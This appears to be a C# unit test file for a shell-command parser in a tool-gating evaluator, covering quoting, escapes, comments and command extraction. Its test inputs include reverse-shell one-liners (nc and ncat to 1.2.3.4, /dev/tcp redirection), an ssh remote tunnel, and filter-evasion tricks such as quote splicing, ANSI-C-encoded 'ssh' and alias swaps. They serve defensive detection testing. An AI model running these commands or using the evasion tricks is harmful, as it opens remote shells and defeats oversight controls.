using ToolGate.Core.Shell.Syntax;
using ToolGate.Core.Tests.Corpus;
using static ToolGate.Core.Tests.Shell.Syntax.ShellTree;

namespace ToolGate.Core.Tests.Shell.Syntax;

/// <summary>Words, quoting and the corpus-style command lines the evaluator relies on.</summary>
public class ShellParserTests
{
    [Theory]
    [InlineData("git log --oneline -20", new[] { "git", "log", "--oneline", "-20" })]
    [InlineData("  git\tlog  ", new[] { "git", "log" })]
    [InlineData("grep 'a b' src", new[] { "grep", "a b", "src" })]
    [InlineData("grep \"a b\" src", new[] { "grep", "a b", "src" })]
    [InlineData("grep a\\ b src", new[] { "grep", "a b", "src" })]
    [InlineData("grep 'a\\b' src", new[] { "grep", "a\\b", "src" })]
    [InlineData("grep \"a\\\"b\" src", new[] { "grep", "a\"b", "src" })]
    [InlineData("grep \"a\\\\b\\$c\\`d\" src", new[] { "grep", "a\\b$c`d", "src" })]
    [InlineData("grep \"a\\nb\" src", new[] { "grep", "a\\nb", "src" })]
    [InlineData("grep 'say \"hi\"' \"it's\"", new[] { "grep", "say \"hi\"", "it's" })]
    [InlineData("grep '' \"\" src", new[] { "grep", "", "", "src" })]
    [InlineData("grep -r 'a;b|c' src", new[] { "grep", "-r", "a;b|c", "src" })]
    [InlineData("echo a#b", new[] { "echo", "a#b" })]
    [InlineData("echo $", new[] { "echo", "$" })]
    [InlineData("echo a$ \"b$\" $/x", new[] { "echo", "a$", "b$", "$/x" })]
    [InlineData("echo \"a\nb\"", new[] { "echo", "a\nb" })]
    [InlineData("echo trailing\\", new[] { "echo", "trailing\\" })]
    public void Parse_QuotingForms_RemoveQuotes(string input, string[] argv)
    {
        Assert.Equal(argv, Argv(input));
    }

    [Theory]
    [InlineData("g''rep -r x .", "grep")]
    [InlineData("\"ss\"\"h\" -R 1:localhost:22 a@x", "ssh")]
    [InlineData("g\"r\"'e'p x", "grep")]
    [InlineData("gr\\ep x", "grep")]
    [InlineData("$'\\163\\163\\150' a@x", "ssh")]
    [InlineData("$\"ssh\" a@x", "ssh")]
    public void Parse_QuoteSplicing_JoinsIntoOneWord(string input, string program)
    {
        Assert.Equal(program, Argv(input)[0]);
    }

    [Fact]
    public void Parse_AdjacentLiterals_MergeOnlyWhenEquallyQuoted()
    {
        var word = SingleSimple("a'b'\"c\"d\\e").Words[0];

        Assert.Equal(
            [new LiteralPart("a", false), new LiteralPart("bc", true), new LiteralPart("d", false), new LiteralPart("e", true)],
            word.Parts.ToArray());
    }

    [Theory]
    [InlineData("$'a\\nb\\tc'", "a\nb\tc")]
    [InlineData("$'\\\\ \\' \\\" \\?'", "\\ ' \" ?")]
    [InlineData("$'\\a\\b\\e\\E\\f\\r\\v'", "\a\b\u001b\u001b\f\r\v")]
    [InlineData("$'\\101\\1010'", "AA0")]
    [InlineData("$'\\x41\\x4a\\xg'", "AJ\\xg")]
    [InlineData("$'\\u00e9\\U0001F600'", "é😀")]
    [InlineData("$'\\cA\\c?'", "\u0001\u007f")]
    [InlineData("$'\\q\\c'", "\\q\\c")]
    [InlineData("$'ssh\\0 junk'", "ssh")]
    [InlineData("$'it\\'s'", "it's")]
    public void Parse_AnsiCQuote_DecodesEscapes(string input, string expected)
    {
        var part = Assert.Single(SingleSimple(input).Words[0].Parts);

        Assert.Equal(new LiteralPart(expected, true), part);
    }

    [Fact]
    public void Parse_EscapedDollarInDoubleQuotes_IsLiteral()
    {
        var word = SingleSimple("grep -r \"\\$HOME\" src").Words[2];

        Assert.Equal([new LiteralPart("$HOME", true)], word.Parts.ToArray());
    }

    [Theory]
    [InlineData("git log # ; ssh a@198.51.100.7", new[] { "git", "log" })]
    [InlineData("git log #", new[] { "git", "log" })]
    [InlineData("git log#x", new[] { "git", "log#x" })]
    [InlineData("grep '#' \\# src", new[] { "grep", "#", "#", "src" })]
    public void Parse_HashAtWordStart_StartsAComment(string input, string[] argv)
    {
        Assert.Equal(argv, Argv(input));
    }

    [Fact]
    public void Parse_CommentThenAnotherLine_ParsesTheLine()
    {
        Assert.Equal(["git", "ssh"], Programs("git log # x \\\nssh a@x"));
    }

    [Theory]
    [InlineData("gi\\\nt log", new[] { "git", "log" })]
    [InlineData("git \\\n log", new[] { "git", "log" })]
    [InlineData("echo \"a\\\nb\"", new[] { "echo", "ab" })]
    [InlineData("echo 'a\\\nb'", new[] { "echo", "a\\\nb" })]
    [InlineData("echo $\\\n(id)", new[] { "echo", "«C:id»" })]
    public void Parse_LineContinuation_IsRemovedOutsideSingleQuotes(string input, string[] argv)
    {
        Assert.Equal(argv, Argv(input));
    }

    [Fact]
    public void Parse_ContinuationInsideOperator_JoinsTheOperator()
    {
        var andOr = Assert.Single(Parse("a &\\\n& b").Items).Command;

        Assert.Equal(["&&"], andOr.Operators.ToArray());
    }

    [Fact]
    public void Parse_WordSource_IsTheExactInputText()
    {
        var words = SingleSimple("grep  -r\t'a b'\"c\"$x src/*.ts").Words;

        Assert.Equal(["grep", "-r", "'a b'\"c\"$x", "src/*.ts"], words.Select(w => w.Source));
    }

    [Theory]
    [InlineData("git log # ; ssh a@198.51.100.7", new[] { "git" })]
    [InlineData("grep -r 'a;b|c' src", new[] { "grep" })]
    [InlineData("g''rep -r x . ; s''sh a@x", new[] { "grep", "ssh" })]
    [InlineData("(wc -l x; ncat 1.2.3.4 443 -e /bin/bash)", new[] { "wc", "ncat" })]
    [InlineData("{ git log; ssh -L 1:db:1 a@x; }", new[] { "git", "ssh" })]
    [InlineData("if true; then ssh a@x; fi", new[] { "true", "ssh" })]
    [InlineData("while :; do curl x; done", new[] { ":", "curl" })]
    [InlineData("case x in x) ssh a@x;; esac", new[] { "ssh" })]
    [InlineData("function head { ssh a@x; }; head", new[] { "ssh", "head" })]
    [InlineData("alias grep=ssh; grep a@x", new[] { "alias", "grep" })]
    [InlineData("exec 3<>/dev/tcp/1.2.3.4/80", new[] { "exec" })]
    [InlineData("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 1337 > /tmp/f", new[] { "rm", "mkfifo", "cat", "sh", "nc" })]
    [InlineData("head <(curl -s http://x)", new[] { "head" })]
    [InlineData("wc -l `id`", new[] { "wc" })]
    [InlineData("grep -r x .\nssh -N -R 0.0.0.0:8022:127.0.0.1:22 a@x", new[] { "grep", "ssh" })]
    public void Parse_CorpusLine_FindsEveryProgram(string input, string[] programs)
    {
        Assert.Equal(programs, Programs(input));
    }

    [Fact]
    public void Parse_EveryCorpusLine_Parses()
    {
        Assert.All(CorpusFile.Read("shell.tsv", unescapeNewlines: true), row => Assert.True(ShellParser.Parse(row.Input).IsSuccess, $"line {row.Line}: {row.Input}"));
    }

    [Fact]
    public void Parse_AliasArgument_IsAnOrdinaryWord()
    {
        var alias = SimpleCommands(Parse("alias grep=ssh; grep a@x")).First();

        Assert.Empty(alias.Assignments);
        Assert.Equal(["alias", "grep=ssh"], Argv(alias));
    }

    [Fact]
    public void Parse_IfsSplicing_KeepsParametersAsParts()
    {
        var word = SingleSimple("grep${IFS}-r${IFS}x${IFS}/etc").Words.Single();

        Assert.Equal(
            [new LiteralPart("grep", false), new ParameterPart("${IFS}", false), new LiteralPart("-r", false), new ParameterPart("${IFS}", false),
             new LiteralPart("x", false), new ParameterPart("${IFS}", false), new LiteralPart("/etc", false)],
            word.Parts.ToArray());
    }

    [Fact]
    public void Parse_ExecTcpRedirection_IsAReadWriteRedirection()
    {
        var exec = SingleSimple("exec 3<>/dev/tcp/1.2.3.4/80");

        Assert.Equal(["exec"], Argv(exec));
        var redirection = Assert.Single(exec.Redirections);
        Assert.Equal((3, "<>", "/dev/tcp/1.2.3.4/80"), (redirection.FileDescriptor, redirection.Operator, WordText(redirection.Target)));
    }

    [Fact]
    public void Parse_FifoReverseShell_HasThePipelineAndRedirections()
    {
        var items = Parse("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 1337 > /tmp/f").Items;

        Assert.Equal(3, items.Length);
        var pipeline = Assert.Single(items[2].Command.Pipelines);
        Assert.Equal(["|", "|"], pipeline.Operators.ToArray());
        var sh = Assert.IsType<SimpleCommand>(pipeline.Commands[1]);
        Assert.Equal(["sh", "-i"], Argv(sh));
        Assert.Equal((2, ">&", "1"), (sh.Redirections[0].FileDescriptor, sh.Redirections[0].Operator, WordText(sh.Redirections[0].Target)));
        var nc = Assert.IsType<SimpleCommand>(pipeline.Commands[2]);
        Assert.Equal(["nc", "1.2.3.4", "1337"], Argv(nc));
        Assert.Equal((null, ">", "/tmp/f"), (nc.Redirections[0].FileDescriptor, nc.Redirections[0].Operator, WordText(nc.Redirections[0].Target)));
    }

    [Fact]
    public void Parse_ProcessSubstitution_IsAPartWithItsCommands()
    {
        var part = Assert.IsType<ProcessSubstitutionPart>(Assert.Single(SingleSimple("head <(curl -s http://x)").Words[1].Parts));

        Assert.Equal(('<', "curl -s http://x"), (part.Direction, part.Text));
        Assert.Equal(["curl", "-s", "http://x"], Argv(Assert.Single(SimpleCommands(part.Body!))));
    }

    [Fact]
    public void Parse_Backquotes_AreACommandSubstitution()
    {
        var part = Assert.IsType<CommandSubstitutionPart>(Assert.Single(SingleSimple("wc -l `id`").Words[2].Parts));

        Assert.Equal(("id", true), (part.Text, part.Backquoted));
        Assert.Equal(["id"], SimpleCommands(part.Body!).Select(c => WordText(c.Words[0])));
    }

    [Fact]
    public void Parse_QuotedHereDocument_KeepsTheBodyLiteral()
    {
        var cat = SingleSimple("cat <<'EOF'\nhello $x\nEOF\n");

        var redirection = Assert.Single(cat.Redirections);
        Assert.Equal(("<<", "EOF", "hello $x\n", true), (redirection.Operator, WordText(redirection.Target), redirection.HereDocument, redirection.HereDocumentQuoted));
        Assert.Empty(redirection.HereDocumentParts);
    }

    [Fact]
    public void Parse_UnquotedHereDocument_ExposesItsCommandSubstitution()
    {
        var cat = SingleSimple("cat <<EOF\n$(id)\nEOF");

        var redirection = Assert.Single(cat.Redirections);
        Assert.Equal(("$(id)\n", false), (redirection.HereDocument, redirection.HereDocumentQuoted));
        var substitution = Assert.IsType<CommandSubstitutionPart>(redirection.HereDocumentParts[0]);
        Assert.Equal("id", substitution.Text);
        Assert.Equal(new LiteralPart("\n", true), redirection.HereDocumentParts[1]);
    }
}
